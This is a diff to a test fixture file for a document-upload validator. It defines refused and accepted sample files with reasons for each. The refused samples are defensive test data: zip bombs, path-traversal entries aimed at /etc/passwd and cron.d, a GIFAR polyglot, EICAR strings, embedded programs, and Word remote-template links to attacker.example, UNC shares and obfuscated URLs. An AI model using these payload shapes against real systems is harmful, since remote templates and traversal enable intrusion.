@@ -106,6 +106,32 @@ function jpegWith(comment: string): Buffer {
   ]);
 }
 
+/** The beginning of a photo of a telephone. */
+const heic = (brand: string) =>
+  Buffer.concat([
+    text("\0\0\0\x1cftyp"),
+    text(brand),
+    text("\0\0\0\0mif1heicmiaf"),
+    Buffer.alloc(200),
+  ]);
+
+/** Of an Office file before 2007, what tells what it holds. */
+export const compound = (name: string): Uint8Array =>
+  Buffer.concat([
+    Buffer.from("d0cf11e0a1b11ae1", "hex"),
+    Buffer.alloc(600),
+    Buffer.from(name, "utf16le"),
+  ]);
+
+/** Names a template as Word does. */
+export const templateAt = (target: string, kind = "attachedTemplate") => ({
+  "word/_rels/settings.xml.rels":
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+    `<Relationship Id="rId1" TargetMode="External" Target="${target}" ` +
+    `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"/>` +
+    "</Relationships>",
+});
+
 const zeros = () => new Uint8Array(60 * 1024 * 1024);
 
 /** Name, content, and why it is refused. */
@@ -141,14 +167,14 @@ export const refusedFiles: [string, Buffer, string][] = [
     text("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
     "wrongType",
   ],
-  ["anime.gif", text("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), "wrongType"],
+  ["anime.gif", text("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), "picture"],
   [
     "gifar.gif",
     Buffer.concat([
       text("GIF89a/*\u0000*/=1;alert(1);"),
       zip({ "META-INF/MANIFEST.MF": "Main-Class: X" }),
     ]),
-    "wrongType",
+    "picture",
   ],
   [
     "archive.jar.docx",
@@ -172,23 +198,23 @@ export const refusedFiles: [string, Buffer, string][] = [
     zip({ "eicar.com": "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*" }),
     "wrongType",
   ],
-  ["bombe.docx", docx({ "word/a.xml": zeros(), "word/b.xml": zeros() }), "wrongType"],
+  ["bombe.docx", docx({ "word/a.xml": zeros(), "word/b.xml": zeros() }), "tooHeavy"],
   [
     "bombe-cachee.docx",
     understated(docx({ "word/a.xml": zeros(), "word/b.xml": zeros() })),
-    "wrongType",
+    "tooHeavy",
   ],
-  ["bombe.odt", odt({ "a.xml": zeros(), "b.xml": zeros() }), "wrongType"],
+  ["bombe.odt", odt({ "a.xml": zeros(), "b.xml": zeros() }), "tooHeavy"],
   [
     "mille-parties.docx",
     docx(
       Object.fromEntries(Array.from({ length: 2_100 }, (_, index) => [`word/${index}.xml`, ""])),
     ),
-    "wrongType",
+    "tooHeavy",
   ],
-  ["sortie.docx", docx({ "../../etc/cron.d/x": "x" }), "wrongType"],
-  ["absolu.docx", docx({ "/etc/passwd": "x" }), "wrongType"],
-  ["lecteur.docx", docx({ "C:\\windows\\x.xml": "x" }), "wrongType"],
+  ["sortie.docx", docx({ "../../etc/cron.d/x": "x" }), "damaged"],
+  ["absolu.docx", docx({ "/etc/passwd": "x" }), "damaged"],
+  ["lecteur.docx", docx({ "C:\\windows\\x.xml": "x" }), "damaged"],
   ["sans-texte.odt", zip({ mimetype: "application/vnd.oasis.opendocument.text" }), "wrongType"],
   ["macros.docx", docx({ "word/vbaProject.bin": "x" }), "macros"],
   ["macros-casse.docx", docx({ "WORD/VBAPROJECT.BIN": "x" }), "macros"],
@@ -210,19 +236,46 @@ export const refusedFiles: [string, Buffer, string][] = [
         '<Relationship Type="http://x/attachedTemplate" ' +
         'Target="https://attacker.example/x.dotm" TargetMode="External"/>',
     }),
+    "remoteTemplate",
+  ],
+  ["modele-unc.docx", docx(templateAt("\\\\serveur\\modeles\\x.dotm")), "remoteTemplate"],
+  ["modele-file-unc.docx", docx(templateAt("file://serveur/modeles/x.dotm")), "remoteTemplate"],
+  ["modele-barres.docx", docx(templateAt("file:////serveur/x.dotm")), "remoteTemplate"],
+  ["modele-code.docx", docx(templateAt("%5C%5Cserveur%5Cx.dotm")), "remoteTemplate"],
+  [
+    "modele-entites.docx",
+    docx(templateAt("&#104;ttps://serveur.example/x.dotm")),
+    "remoteTemplate",
+  ],
+  ["objet-distant.docx", docx(templateAt("https://a.example/x!", "oleObject")), "remoteTemplate"],
+  ["programme-dedans.docx", docx({ "word/embeddings/a.exe": "MZ" }), "program"],
+  [
+    "paquet.docx",
+    docx({ "word/embeddings/oleObject1.bin": compound("\u0001Ole10Native") }),
+    "program",
+  ],
+  [
+    "classeur-a-macros.docx",
+    docx({ "word/embeddings/oleObject1.bin": compound("_VBA_PROJECT") }),
     "macros",
   ],
+  ["ancien-complet.doc", Buffer.from(compound("WordDocument")), "oldWord"],
+  ["protege-office.docx", Buffer.from(compound("EncryptedPackage")), "encrypted"],
+  ["tronque.pdf", pdf.subarray(0, -6), "truncated"],
+  ["tronque-linearise.pdf", Buffer.concat([pdf, Buffer.alloc(9_000, "a")]), "truncated"],
+  ["photo.heic", heic("heic"), "heic"],
+  ["photo.jpg", heic("mif1"), "heic"],
+  ["IMG_0042.JPG", heic("heix"), "heic"],
   ["activex.docx", docx({ "word/activeX/activeX1.xml": "x" }), "macros"],
-  ["objet.docx", docx({ "word/embeddings/oleObject1.bin": "x" }), "macros"],
-  ["page-dedans.docx", docx({ "word/media/x.html": script }), "macros"],
-  ["dessin-dedans.odt", odt({ "Pictures/x.svg": svg }), "macros"],
+  ["objet.docx", docx({ "word/embeddings/oleObject1.bin": "x" }), "program"],
+  ["page-dedans.docx", docx({ "word/media/x.html": script }), "program"],
   ["macros.odt", odt({ "Basic/Standard/Module1.xml": "x" }), "macros"],
   ["scripts.odt", odt({ "Scripts/python/x.py": "x" }), "macros"],
   ["protege.docx", encrypted(docx()), "encrypted"],
   ["protege.odt", encrypted(odt()), "encrypted"],
-  ["prolonge.docx", Buffer.concat([docx(), text(script)]), "wrongType"],
-  ["tronque.docx", docx().subarray(0, -30), "wrongType"],
-  ["polyglotte.docx", Buffer.concat([text("GIF89a"), docx()]), "wrongType"],
+  ["prolonge.docx", Buffer.concat([docx(), text(script)]), "damaged"],
+  ["tronque.docx", docx().subarray(0, -30), "damaged"],
+  ["polyglotte.docx", Buffer.concat([text("GIF89a"), docx()]), "picture"],
 ];
 
 /**
@@ -260,6 +313,38 @@ export const acceptedFiles: [string, Buffer, string][] = [
   [`${"\u{1F3E5}".repeat(150)}.pdf`, pdf, "pdf"],
   ["rapport.docx", docx(), "docx"],
   ["lettre.odt", odt(), "odt"],
+  ["dessin-dedans.odt", odt({ "Pictures/x.svg": svg }), "odt"],
+  ["icone.docx", docx({ "word/media/image1.svg": svg, "word/media/image1.png": png }), "docx"],
+  [
+    "modele-local.docx",
+    docx(templateAt("file:///C:\\Users\\x\\Templates\\Lettre%20du%20lyc%C3%A9e.dotx")),
+    "docx",
+  ],
+  ["modele-mac.docx", docx(templateAt("file:///Users/x/Library/Lettre.dotx")), "docx"],
+  ["modele-lecteur.docx", docx(templateAt("S:\\Secretariat\\Lettre.dotx")), "docx"],
+  ["modele-relatif.docx", docx(templateAt("Lettre.dotx")), "docx"],
+  ["lien.docx", docx(templateAt("https://www.ars.sante.fr", "hyperlink")), "docx"],
+  ["formule.docx", docx({ "word/embeddings/oleObject1.bin": compound("Equation Native") }), "docx"],
+  [
+    "graphique.docx",
+    docx({ "word/embeddings/Feuille.xlsx": zip({ "xl/workbook.xml": "" }) }),
+    "docx",
+  ],
+  [
+    "libreoffice.odt",
+    odt({
+      "layout-cache": "x",
+      "Basic/script-lc.xml": "<library/>",
+      "META-INF/manifest.xml":
+        '<manifest:manifest xmlns:manifest="m"><manifest:file-entry ' +
+        'manifest:full-path="layout-cache" manifest:media-type="application/binary"/>' +
+        "</manifest:manifest>",
+    }),
+    "odt",
+  ],
+  ["marque.pdf", Buffer.concat([Buffer.from("efbbbf0d0a", "hex"), pdf]), "pdf"],
+  ["imprimante.pdf", Buffer.concat([text("\x1b%-12345X@PJL\r\n"), pdf]), "pdf"],
+  ["rembourre.pdf", Buffer.concat([pdf, Buffer.alloc(9_000)]), "pdf"],
 ];
 
 /**
